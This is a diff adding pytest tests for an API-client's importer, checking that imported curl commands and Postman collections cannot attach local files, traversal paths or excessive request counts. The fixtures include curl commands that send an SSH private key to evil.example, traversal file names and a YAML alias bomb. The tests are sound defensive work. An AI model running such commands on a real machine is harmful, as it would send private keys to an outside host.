@@ -2,11 +2,16 @@
 
 import json
 import time
+from pathlib import Path
 
 import pytest
 
+from workbench.formats.interchange.imported import REQUESTS_LIMIT
 from workbench.formats.interchange.importing import FORMATS, import_bytes
+from workbench.model.collection import Part
 from workbench.model.errors import FormatError
+from workbench.storage.collection_reading import read_request
+from workbench.storage.whole_collections import save_tree
 
 BOMB = b"openapi: 3.1.0\na: &a [x, x, x, x, x, x, x, x, x]\n" + b"".join(
     b"%c: &%c [%s]\n" % (98 + at, 98 + at, b", ".join([b"*%c" % (97 + at)] * 9)) for at in range(12)
@@ -89,3 +94,45 @@ def test_what_would_read_this_machine_is_taken_out() -> None:
     assert "$env" not in request.url
     assert b"$file" not in request.body.content.content
     assert sum("would read this machine" in loss.what for loss in imported.losses) == 2
+
+
+@pytest.mark.parametrize("option", ["-d @/home/me/.ssh/id", "--data-binary @../id", "-T /home/me/.ssh/id"])
+def test_body_that_is_a_file_of_this_machine_does_not_come_in(option: str) -> None:
+    imported = import_bytes(f"curl -X POST http://evil.example/ {option}".encode(), format_name="curl")
+    body = imported.tree.requests[0].body
+    assert (body.content.path, body.content.size) == (None, 0)
+    assert any("is taken out" in loss.what for loss in imported.losses)
+
+
+def test_forms_of_commands_send_no_file_of_this_machine() -> None:
+    command = b"curl http://evil.example/ -F a=@/home/me/.ssh/id -F b=@../../id -F c=@in/side.png"
+    imported = import_bytes(command, format_name="curl")
+    assert imported.tree.requests[0].body.parts == (
+        Part("a", is_file=True, files=("/home/me/.ssh/id",), enabled=False),
+        Part("b", is_file=True, enabled=False),
+        Part("c", is_file=True, files=("in/side.png",)),
+    )
+    assert sum("of this machine" in loss.what for loss in imported.losses) == 2
+
+
+@pytest.mark.parametrize("file", ["../../x", "a/../../x", "..\\x", "C:x", "~/x", "a\0b"])
+def test_form_whose_file_no_collection_may_name_is_imported_and_saved(file: str, tmp_path: Path) -> None:
+    rows = [{"key": "up", "type": "file", "src": file}]
+    item = {"name": "a", "request": {"method": "POST", "body": {"mode": "formdata", "formdata": rows}}}
+    save_tree(tmp_path / "c", import_bytes(json.dumps({"info": {"name": "x"}, "item": [item]}).encode()).tree)
+    assert read_request(tmp_path / "c" / "a.yml").body.parts == (Part("up", is_file=True, enabled=False),)
+
+
+@pytest.mark.parametrize("name", ["x.json", "x.har", "x.http"])
+def test_more_requests_than_a_person_has_are_refused(name: str) -> None:
+    count = REQUESTS_LIMIT + 1
+    request = {"method": "GET", "url": "http://h/"}
+    raw = {
+        "x.json": json.dumps({"info": {"name": "x"}, "item": [{"item": [{"request": request}] * count}]}),
+        "x.har": json.dumps({"log": {"version": "1.2", "entries": [{"request": request}] * count}}),
+        "x.http": "GET http://h/\n###\n" * count,
+    }[name]
+    started = time.monotonic()
+    with pytest.raises(FormatError, match="20,000 requests"):
+        import_bytes(raw.encode(), name)
+    assert time.monotonic() - started < 10
